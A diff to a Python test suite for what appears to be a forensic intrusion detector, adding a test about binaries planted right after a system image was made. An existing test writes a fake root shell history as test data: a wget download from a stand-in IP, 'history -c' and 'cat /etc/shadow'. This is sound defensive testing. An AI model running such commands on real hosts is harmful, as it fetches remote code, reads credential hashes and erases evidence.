@@ -169,3 +169,15 @@ def test_an_administrators_history_is_quiet_and_an_intruders_is_not(tmp_path: Pa
     assert loud(tmp_path / "daily", {"histories": {"/root/.bash_history": daily}}) == {}
     worse = daily + "wget http://198.51.100.9/k\nhistory -c\ncat /etc/shadow\n"
     assert loud(tmp_path / "worse", {"histories": {"/root/.bash_history": worse}}) == {"/root/.bash_history": "high"}
+
+
+def test_what_was_planted_right_after_the_image_was_made_is_not_taken_for_a_packages_own(tmp_path: Path) -> None:
+    # The package's record is of 90 s before the host's first process, and the program of 20 s after it.
+    body = (
+        "0|/var/lib/dpkg/info/cron.list|1|-rw-r--r--|0|0|9|1.0|1.0|1795397990.0|0.0\n"
+        "0|/usr/bin/new|1|-rwxr-xr-x|0|0|9|1.0|1.0|1795398010.0|0.0\n"
+    )
+    assert loud(tmp_path / "unknown", {"bodyfile": body}) == {}
+    first = "/proc/1/stat:1 (systemd) S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 50000 0\n"
+    started = {"processes": first, "process-links": "", "clock": "/proc/uptime:2592.0 1.0\n"}
+    assert loud(tmp_path / "known", {"bodyfile": body, **started}) == {"/usr/bin/new": "medium"}
